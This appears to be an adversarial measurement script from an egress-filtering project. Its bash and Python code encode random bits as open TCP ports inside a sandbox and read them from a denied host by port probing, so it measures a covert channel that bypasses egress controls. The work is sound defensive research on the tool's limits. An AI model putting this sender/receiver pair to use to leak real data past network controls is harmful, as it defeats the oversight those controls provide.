#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# A measurement, not a test (run.sh does not run it): the inbound-probe
# covert channel, which no egress hook can close.  The workload, under
# egressd, encodes a message in which TCP ports it listens on (bit i set:
# port BASE+i open).  The denied host, which can reach the client, probes
# every port at once: a closed port answers RST at once (the kernel's
# reset, owned by no cgroup); an open one answers SYN-ACK, which egressd
# drops because it goes to a denied address, so the probe sees silence.
# Either way the two differ, and the denied host reads the bits.
#
#   bash tests/adversarial/measure/inbound_probe.sh [BITS] [WAIT_MS]
#
# Prints the bits read per round, the errors, and the rate.

. "$(dirname "$0")/../lib.sh"

BITS=${1:-4096}
WAIT_MS=${2:-50}
BASE=20000
ROUNDS=${ROUNDS:-5}

adv_init
adv_up

cat >"$LAB_WORK/sender.py" <<'PY'
import os, socket, sys, time
msg, base, ready, done = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
bits = open(msg).read().strip()
held = []
t0 = time.monotonic()
for i, b in enumerate(bits):
    if b == "1":
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind(("0.0.0.0", base + i))
        s.listen(8)
        held.append(s)
open(ready, "w").write(f"{(time.monotonic() - t0) * 1000:.1f}\n")
while not os.path.exists(done):
    time.sleep(0.01)
PY
cat >"$LAB_WORK/receiver.py" <<'PY'
import errno, resource, select, socket, sys, time
dst, base, n, wait_ms = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
resource.setrlimit(resource.RLIMIT_NOFILE, (n + 256, n + 256))
t0 = time.monotonic()
socks = []
for i in range(n):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    s.connect_ex((dst, base + i))
    socks.append(s)
ep = select.epoll()
for i, s in enumerate(socks):
    ep.register(s.fileno(), select.EPOLLOUT | select.EPOLLERR)
fd2i = {s.fileno(): i for i, s in enumerate(socks)}
bits = ["1"] * n   # silence (SYN-ACK dropped) or SYN-ACK: listening
answered = 0
t1 = time.monotonic()
deadline = t1 + wait_ms / 1000
while answered < n:
    left = deadline - time.monotonic()
    if left <= 0:
        break
    for fd, ev in ep.poll(left):
        i = fd2i[fd]
        ep.unregister(fd)
        answered += 1
        err = socks[i].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        bits[i] = "0" if err == errno.ECONNREFUSED else "1"
el = (time.monotonic() - t0) * 1000
setup = (t1 - t0) * 1000
print("".join(bits))
print(f"elapsed_ms={el:.1f} connects_ms={setup:.1f} answered={answered}")
PY
chmod 0644 "$LAB_WORK"/*.py

total_bits=0 total_err=0 total_ms=0
for ((r = 1; r <= ROUNDS; r++)); do
	od -An -N"$((BITS / 8))" -tu1 /dev/urandom | tr -s ' ' '\n' | grep . |
		while read -r byte; do
			for ((b = 7; b >= 0; b--)); do printf '%d' $(((byte >> b) & 1)); done
		done >"$LAB_WORK/msg"
	echo >>"$LAB_WORK/msg"
	rm -f "$LAB_WORK/ready" "$LAB_WORK/done"
	"${LAB_CLIENT_CMD[@]}" "$EGRESSD" run --user nobody --allow-domains "$ADV_ALLOW" -- \
		"$LAB_PY" "$LAB_WORK/sender.py" "$LAB_WORK/msg" "$BASE" "$LAB_WORK/ready" \
		"$LAB_WORK/done" >"$LAB_DIR/sender$r.log" 2>&1 </dev/null &
	eg=$!
	LAB_PIDS+=("$eg")
	lab_wait 20 "the sender to listen" test -s "$LAB_WORK/ready"
	ip netns exec "$ADV_DENIED" "$LAB_PY" "$LAB_WORK/receiver.py" "$ADV_CLIENT4" \
		"$BASE" "$BITS" "$WAIT_MS" >"$LAB_DIR/recv$r.out"
	touch "$LAB_WORK/done"
	wait "$eg"
	sent=$(head -n1 "$LAB_WORK/msg")
	got=$(head -n1 "$LAB_DIR/recv$r.out")
	ms=$(sed -n 's/^elapsed_ms=\([0-9.]*\).*/\1/p' "$LAB_DIR/recv$r.out")
	err=$(paste <(fold -w1 <<<"$sent") <(fold -w1 <<<"$got") | awk '$1 != $2' | wc -l)
	printf 'round %d: %d bits, %d wrong, receiver %s ms (%s), sender set up in %s ms\n' \
		"$r" "$BITS" "$err" "$ms" "$(sed -n 's/.*\(answered=[0-9]*\)/\1/p' "$LAB_DIR/recv$r.out")" \
		"$(cat "$LAB_WORK/ready")"
	total_bits=$((total_bits + BITS))
	total_err=$((total_err + err))
	total_ms=$(awk -v a="$total_ms" -v b="$ms" 'BEGIN { print a + b }')
done
awk -v b="$total_bits" -v e="$total_err" -v ms="$total_ms" 'BEGIN {
	printf "inbound-probe channel: %d bits in %.1f ms of probing, %d wrong: %.0f bit/s (%.1f KiB/s)\n",
		b, ms, e, b / (ms / 1000), b / (ms / 1000) / 8 / 1024 }'
lab_ok "measured"
lab_finish
